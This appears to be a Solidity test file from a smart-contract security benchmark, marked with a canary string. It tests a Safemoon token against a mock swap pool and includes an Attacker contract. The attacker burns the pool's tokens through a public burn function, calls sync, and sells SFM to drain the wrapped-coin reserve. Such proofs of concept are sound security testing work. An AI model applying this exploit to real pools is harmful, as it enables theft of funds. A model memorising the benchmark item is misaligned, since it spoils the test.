// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./Safemoon.sol";

// assay-canary-0504c0f8-ff39-4b7a-8f10-83cd132b67bc

interface Vm {
    function prank(address sender) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract WBNB {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A pool that sells wrapped coins for SFM along a constant product.
contract SafeSwapPair {
    Safemoon public sfm;
    WBNB public wbnb;
    uint256 public reserveSfm;
    uint256 public reserveWbnb;

    constructor(Safemoon sfm_, WBNB wbnb_) {
        sfm = sfm_;
        wbnb = wbnb_;
    }

    function sync() public {
        reserveSfm = sfm.balanceOf(address(this));
        reserveWbnb = wbnb.balanceOf(address(this));
    }

    function sell(address to) external returns (uint256 out) {
        uint256 paid = sfm.balanceOf(address(this)) - reserveSfm;
        out = (reserveWbnb * paid) / (reserveSfm + paid);
        wbnb.transfer(to, out);
        sync();
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant WALLET = address(0x3A11);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Safemoon internal sfm;
    WBNB internal wbnb;
    SafeSwapPair internal pair;
    Attacker internal thief;

    function setUp() public {
        sfm = new Safemoon(WALLET, 1_000_000e9);
        wbnb = new WBNB();
        pair = new SafeSwapPair(sfm, wbnb);
        wbnb.mint(address(pair), 28_000 ether);
        sfm.transfer(address(pair), 400_000e9);
        pair.sync();
        sfm.transfer(ANA, 50_000e9);
        sfm.transfer(BEN, 50_000e9);
        thief = new Attacker(sfm, pair);
        sfm.transfer(address(thief), 1_000e9);
    }

    function test_Regular() public {
        vm.prank(ANA);
        sfm.transfer(BEN, 1_000e9);
        require(sfm.balanceOf(BEN) == 50_980e9 && sfm.balanceOf(WALLET) == 20e9, "taxed");
        vm.prank(ANA);
        sfm.approve(address(this), 500e9);
        sfm.transferFrom(ANA, BEN, 400e9);
        require(sfm.allowance(ANA, address(this)) == 100e9 && sfm.balanceOf(BEN) == 51_372e9, "on behalf of another");
        vm.prank(ANA);
        sfm.approve(address(this), type(uint256).max);
        sfm.transferFrom(ANA, BEN, 100e9);
        require(sfm.allowance(ANA, address(this)) == type(uint256).max, "without an end");
        vm.prank(BEN);
        sfm.burn(BEN, 470e9);
        require(sfm.balanceOf(BEN) == 51_000e9 && sfm.totalSupply() == 999_530e9, "burned");
        sfm.setTaxFee(1_000);
        sfm.excludeFromFee(ANA, true);
        sfm.setLiquidityWallet(BEN);
        vm.prank(ANA);
        sfm.transfer(BEN, 100e9);
        require(sfm.balanceOf(BEN) == 51_100e9, "exempt");
        sfm.transferOwnership(ANA);
        require(sfm.owner() == ANA, "owner");
    }

    function test_RefusesStrangers() public {
        bytes memory no = abi.encodeWithSelector(Ownable.NotOwner.selector, ANA);
        vm.prank(ANA);
        vm.expectRevert(no);
        sfm.setTaxFee(1);
        vm.prank(ANA);
        vm.expectRevert(no);
        sfm.excludeFromFee(ANA, true);
        vm.prank(ANA);
        vm.expectRevert(no);
        sfm.setLiquidityWallet(ANA);
        vm.prank(ANA);
        vm.expectRevert(no);
        sfm.transferOwnership(ANA);
    }

    function test_RefusesWhatIsNotApproved() public {
        vm.expectRevert();
        sfm.transferFrom(ANA, BEN, 1);
        vm.expectRevert(abi.encodeWithSelector(Safemoon.ZeroRecipient.selector));
        sfm.transfer(address(0), 1);
        vm.expectRevert(abi.encodeWithSelector(Safemoon.TaxTooHigh.selector, 1_001));
        sfm.setTaxFee(1_001);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = poolHolds();
        exploit();
        require(poolHolds() + 27_000 ether <= before, "nothing lost");
    }

    function poolHolds() public view returns (uint256) {
        return wbnb.balanceOf(address(pair));
    }

    function target() public view returns (address) {
        return address(sfm);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Makes SFM scarce in the pool, then sells a little.
contract Attacker {
    Safemoon internal sfm;
    SafeSwapPair internal pair;

    constructor(Safemoon sfm_, SafeSwapPair pair_) {
        sfm = sfm_;
        pair = pair_;
    }

    function run() external {
        sfm.burn(address(pair), sfm.balanceOf(address(pair)) - 1e9);
        pair.sync();
        sfm.transfer(address(pair), sfm.balanceOf(address(this)));
        pair.sell(address(this));
    }
}
